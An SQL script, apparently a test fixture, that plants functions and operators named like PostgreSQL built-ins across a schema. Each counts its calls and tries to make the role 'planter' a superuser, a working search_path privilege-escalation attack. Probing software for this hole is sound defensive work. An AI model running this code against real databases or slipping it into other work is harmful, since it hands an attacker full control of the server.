-- What a role that may create objects in a schema can put there under names of
-- PostgreSQL's own: operators and functions that match arguments exactly where
-- PostgreSQL's would need a conversion. Each counts its calls, and tries to make
-- the role "planter" a superuser. The schema's name is in planted.schema.
SET search_path = pg_catalog;
DO $plant$
DECLARE
	types text[] := ARRAY['text', 'name', 'varchar', 'oid', 'int4', 'int8', 'bool', '"char"', 'regclass', 'name[]', 'text[]'];
	names text[] := ARRAY['format', 'current_schema', 'current_schemas', 'current_setting', 'set_config', 'starts_with', 'pg_try_advisory_lock',
		'pg_advisory_lock', 'pg_advisory_xact_lock', 'pg_advisory_unlock', 'has_schema_privilege', 'count', 'max', 'min', 'string_agg', 'array_agg',
		'lower', 'upper', 'quote_ident', 'quote_literal', 'pg_get_userbyid', 'pg_has_role', 'unnest', 'pg_blocking_pids', 'concat', 'substr',
		'aclexplode', 'acldefault', 'format_type', 'pg_get_expr', 'pg_describe_object', 'pg_cancel_backend', 'pg_terminate_backend',
		'pg_stat_get_activity', 'array_position', 'pg_encoding_to_char', 'length', 'replace', 'strpos', 'int4', 'text', 'json_build_object'];
	home text := current_setting('planted.schema');
	body text := 'AS $f$ BEGIN PERFORM pg_catalog.nextval(''trap.calls'');
		BEGIN ALTER ROLE planter SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN true; END $f$';
	operator text;
	one text;
	two text;
	named text;
BEGIN
	FOREACH one IN ARRAY types LOOP
		FOREACH two IN ARRAY types LOOP
			EXECUTE format('CREATE FUNCTION %I.trap(%s, %s) RETURNS bool LANGUAGE plpgsql %s', home, one, two, body);
			FOR operator IN SELECT DISTINCT oprname FROM pg_operator WHERE oprkind = 'b' AND oprname IN ('=', '<>', '<', '>', '<=', '>=', '~', '!~', '~~', '!~~', '~~*', '||', '&', '|', '+', '-', '<<', '@>', '&&') LOOP
				EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.trap)', home, operator, one, two, home);
			END LOOP;
			FOREACH named IN ARRAY names LOOP
				EXECUTE format('CREATE FUNCTION %I.%I(%s, %s) RETURNS bool LANGUAGE plpgsql %s', home, named, one, two, body);
			END LOOP;
		END LOOP;
		FOREACH named IN ARRAY names LOOP
			EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS bool LANGUAGE plpgsql %s', home, named, one, body);
		END LOOP;
	END LOOP;
	FOREACH named IN ARRAY names LOOP
		EXECUTE format('CREATE FUNCTION %I.%I(text, name, name) RETURNS text LANGUAGE plpgsql %s', home, named, body);
		EXECUTE format('CREATE FUNCTION %I.%I() RETURNS bool LANGUAGE plpgsql %s', home, named, body);
	END LOOP;
END $plant$;
